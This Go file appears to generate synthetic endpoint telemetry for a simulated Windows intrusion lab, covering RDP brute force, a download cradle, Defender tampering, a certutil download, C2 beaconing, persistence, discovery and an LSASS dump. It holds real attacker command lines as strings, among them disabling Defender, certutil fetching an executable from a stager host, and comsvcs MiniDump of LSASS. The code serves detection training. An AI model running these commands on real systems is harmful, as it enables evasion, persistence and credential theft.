package lab

// This file plants the first night of the on-premises intrusion on
// windows-target-1: RDP brute force, the encoded cradle, Defender
// tampering, the certutil download, the beaconing implant, its two
// persistence mechanisms, discovery and the LSASS dump.

import (
	"fmt"
	"time"
)

func plantRDPBrute(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	names := []string{"administrator", "admin", "helpdesk", "user", "test", "support", "backup", "scanner", "guest", "helpdesk", p.target.owner.Name}
	tsvc := p.target.sys.termsvc
	for i, t := 0, p.tBrute; t < add(p.tFoothold, -40*time.Second); i, t = i+1, add(t, r.dur(8*time.Second, 22*time.Second)) {
		c.accept(tsvc, t, bruteIP, c.r.between(40000, 65000), 3389)
		c.logon(add(t, time.Second), logonEv{action: "LogonFailed", ltype: "Network", proto: "NTLM", failure: "InvalidUserNameOrPassword",
			acct: &account{Domain: p.target.Name, Name: names[i%len(names)]}, remoteIP: bruteIP, remoteDev: bruteHost, remotePort: c.r.between(40000, 65000)})
	}
	t := p.tFoothold
	c.accept(tsvc, add(t, -time.Second), bruteIP, c.r.between(40000, 65000), 3389)
	c.logon(t, logonEv{action: "LogonSuccess", ltype: "Network", proto: "NTLM", acct: p.victim, remoteIP: bruteIP, remoteDev: bruteHost,
		remotePort: c.r.between(40000, 65000), admin: true})
	ex := p.rdpExplorer
	ui := ex.Parent
	c.logon(add(ui.Created, -time.Second), logonEv{action: "LogonSuccess", ltype: "RemoteInteractive", proto: "Negotiate", acct: p.victim,
		remoteIP: bruteIP, remoteDev: bruteHost, admin: true, id: ui.LogonID})
	c.created(ui.Parent)
	c.created(ui)
	c.created(ex)
	rc := c.spawn(p.target.sys.schedule, img("rdpclip.exe"), "rdpclip", add(ex.Created, time.Second), p.victim)
	rc.Session, rc.RemoteDev, rc.RemoteIP = 2, bruteHost, bruteIP
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim)}, IPs: []string{bruteIP}}
}

func plantCradle(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	t := p.tCradle
	c.created(p.cradle)
	c.dnsQuery(p.cradle, add(t, 800*time.Millisecond), stagerDomain, stagerIP)
	c.connect(p.cradle, add(t, time.Second), "ConnectionSuccess", stagerIP, 80, stagerDomain)
	c.misc(p.cradle, add(t, 2*time.Second), "PowerShellCommand", bag("Command", "New-Object"))
	c.misc(p.cradle, add(t, 2*time.Second+100*time.Millisecond), "PowerShellCommand", bag("Command", "Invoke-Expression"))
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim)},
		IPs: []string{stagerIP}, Domains: []string{stagerDomain}}
}

func plantTamper(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	t := add(p.tCradle, 3*time.Minute)
	ps := elevate(c.spawn(p.cradle, img("powershell.exe"), `"powershell.exe" -NoP -NonI -c "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true; Add-MpPreference -ExclusionPath 'C:\Users\Public'"`, t, p.victim))
	c.misc(ps, add(t, time.Second), "PowerShellCommand", bag("Command", "Set-MpPreference"))
	c.misc(ps, add(t, 1100*time.Millisecond), "PowerShellCommand", bag("Command", "Add-MpPreference"))
	def := p.target.sys.defender
	c.regSet(def, add(t, 2*time.Second), `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection`, "Dword", "DisableRealtimeMonitoring", "1")
	c.regSet(def, add(t, 2*time.Second), `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection`, "Dword", "DisableIOAVProtection", "1")
	c.regSet(def, add(t, 2200*time.Millisecond), `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths`, "Dword", `C:\Users\Public`, "0")
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim)}}
}

func plantCertutil(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	t := add(p.tCradle, 5*time.Minute)
	url := "http://" + stagerDomain + "/update/svcupd.exe"
	cu := elevate(c.spawn(p.cradle, img("certutil.exe"), `"C:\Windows\system32\certutil.exe" -urlcache -split -f `+url+` C:\Users\Public\svcupd.exe`, t, p.victim))
	c.connect(cu, add(t, time.Second), "ConnectionSuccess", stagerIP, 80, stagerDomain)
	cache := newFile(`C:\Users\helpdesk\AppData\LocalLow\Microsoft\CryptnetUrlCache\Content\`+upperHex(r, 32), "attacker|cryptnet|"+url, implantFile.Size)
	cache.digest = implantFile.digest
	c.fileEvent(cu, add(t, 3*time.Second), "FileCreated", cache, &fileOp{OriginURL: url, OriginIP: stagerIP})
	c.fileEvent(cu, add(t, 3500*time.Millisecond), "FileCreated", implantFile, &fileOp{OriginURL: url, OriginIP: stagerIP})
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim)}, IPs: []string{stagerIP},
		Domains: []string{stagerDomain}, Hashes: []string{implantFile.SHA256}, Files: []string{implantFile.Path}}
}

func plantBeacon(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	c.created(p.implant)
	var lastDNS int64 = -1 << 62
	for t := add(p.tImplant, 5*time.Second); t < p.beaconEnd; {
		if int64(t)-lastDNS > int64(time.Hour/100) {
			c.dnsQuery(p.implant, add(t, -60*time.Millisecond), c2Domain, c2IP)
			lastDNS = int64(t)
		}
		c.connect(p.implant, t, "ConnectionSuccess", c2IP, 443, c2Domain)
		jitter := max(-0.1, min(0.1, r.norm(0, 0.04)))
		t = add(t, time.Duration(float64(300*time.Second)*(1+jitter)))
	}
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim)}, IPs: []string{c2IP},
		Domains: []string{c2Domain}, Hashes: []string{implantFile.SHA256}, Files: []string{implantFile.Path}}
}

func plantRunKey(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	t := add(p.tImplant, 4*time.Minute)
	args := `add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v SvcUpdate /t REG_SZ /d "C:\Users\Public\svcupd.exe" /f`
	cmd := c.spawn(p.implant, img("cmd.exe"), `C:\Windows\system32\cmd.exe /C reg `+args, t, p.victim)
	reg := c.spawn(cmd, img("reg.exe"), "reg  "+args, add(t, 120*time.Millisecond), p.victim)
	c.regSet(reg, add(t, 200*time.Millisecond), hkcu(p.victim, `Software\Microsoft\Windows\CurrentVersion\Run`), "String", "SvcUpdate", implantFile.Path)
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim)},
		Hashes: []string{implantFile.SHA256}, Files: []string{implantFile.Path}}
}

const taskName = `\Microsoft\Windows\Maintenance\SvcUpdateCheck`

func plantSchtask(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	t := add(p.tImplant, 7*time.Minute)
	args := `/create /tn "` + taskName + `" /tr "C:\Users\Public\svcupd.exe" /sc onlogon /ru SYSTEM /f`
	cmd := c.spawn(p.implant, img("cmd.exe"), `C:\Windows\system32\cmd.exe /C schtasks `+args, t, p.victim)
	st := c.spawn(cmd, img("schtasks.exe"), "schtasks  "+args, add(t, 150*time.Millisecond), p.victim)
	content := `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>` +
		`<Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>` +
		`<Actions Context="Author"><Exec><Command>C:\Users\Public\svcupd.exe</Command></Exec></Actions></Task>`
	c.misc(st, add(t, time.Second), "ScheduledTaskCreated", bag("TaskName", taskName, "TaskContent", content))
	task := newFile(`C:\Windows\System32\Tasks`+taskName, "attacker|task|"+taskName, int64(len(content)*2))
	c.fileEvent(p.target.sys.schedule, add(t, time.Second), "FileCreated", task, nil)
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim)},
		Hashes: []string{implantFile.SHA256}, Files: []string{implantFile.Path, task.Path}}
}

func plantDiscovery(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	t := add(p.tImplant, 25*time.Minute)
	steps := []struct{ exe, args, net1 string }{
		{"whoami.exe", "whoami /all", ""},
		{"net.exe", `net group "domain admins" /domain`, `C:\Windows\system32\net1 group "domain admins" /domain`},
		{"net.exe", "net user /domain", `C:\Windows\system32\net1 user /domain`},
		{"nltest.exe", "nltest /dclist:" + dnsDomain, ""},
		{"ipconfig.exe", "ipconfig /all", ""},
		{"systeminfo.exe", "systeminfo", ""},
		{"tasklist.exe", "tasklist /v", ""},
		{"net.exe", `net view \\srv-fs-01`, ""},
	}
	for _, s := range steps {
		t = add(t, r.dur(8*time.Second, 40*time.Second))
		cmd := c.spawn(p.implant, img("cmd.exe"), `C:\Windows\system32\cmd.exe /C `+s.args, t, p.victim)
		x := c.spawn(cmd, img(s.exe), s.args, add(t, 90*time.Millisecond), p.victim)
		if s.net1 != "" {
			c.spawn(x, img("net1.exe"), s.net1, add(t, 150*time.Millisecond), p.victim)
		}
		if s.exe == "nltest.exe" || s.net1 != "" {
			c.connect(x, add(t, 400*time.Millisecond), "ConnectionSuccess", p.dc.IP, 389, "")
		}
	}
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim)},
		Hashes: []string{implantFile.SHA256}, Files: []string{implantFile.Path}}
}

const dumpPath = `C:\Windows\Temp\dbg.bin`

func plantComsvcs(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	t := add(p.tImplant, 52*time.Minute)
	lsass := p.target.sys.lsass
	args := fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, lsass.PID, dumpPath)
	cmd := c.spawn(p.implant, img("cmd.exe"), `C:\Windows\system32\cmd.exe /C `+args, t, p.victim)
	rd := c.spawn(cmd, img("rundll32.exe"), args, add(t, 100*time.Millisecond), p.victim)
	c.emit(tEvents, add(t, 600*time.Millisecond), &event{action: "OpenProcessApiCall", init: rd, proc: lsass, file: lsass.Img,
		extra: bag("DesiredAccess", 2097151)})
	dump := newFile(dumpPath, fmt.Sprintf("attacker|dump|%d", p.tImplant), int64(r.between(48e6, 62e6)))
	c.fileEvent(rd, add(t, 4*time.Second), "FileCreated", dump, nil)
	sc.Entities = Entities{Devices: []string{p.target.Name}, Accounts: []string{acctName(p.victim), acctName(p.admin.admin)},
		Files: []string{dumpPath}}
}
